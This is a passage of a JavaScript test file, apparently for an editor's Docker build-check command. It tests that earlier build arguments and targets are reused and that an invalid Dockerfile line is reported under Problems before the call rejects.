
  it('takes the arguments and the target of the last build, as far as they are still there', async () => {
    for (const target of ['build', 'gone']) {
      const draft = { tags: [], args: { VERSION: '2' }, secrets: {}, target };
      await (
        await lab.context.window.builds()
      ).memory.keep(lab.dockerfile, {
        ...{ ...draft, ssh: false, noCache: false, pull: false },
      });
      lab.ui.act(ENTER);
      await lab.run(checkBuildCommand(lab.ui));
    }
    await lab.call(checkBuildCommand(lab.ui), { context: lab.folder });
    assert.deepEqual(
      lab.checked.map(({ attributes }) => [
        attributes.get('build-arg:VERSION'),
        attributes.get('target'),
      ]),
      [
        ['2', 'build'],
        ['2', undefined],
        [undefined, undefined],
      ],
    );
  });

  it('puts an invalid line into Problems and rejects', async () => {
    lab.check = () => Promise.reject(failed('unknown instruction', SOURCE));
    await assert.rejects(
      lab.call(checkBuildCommand(lab.ui), { context: lab.folder }),
      /unknown instruction/,
    );
    assert.deepEqual(lab.problems[0]?.[1].failure?.source, SOURCE);
  });
});
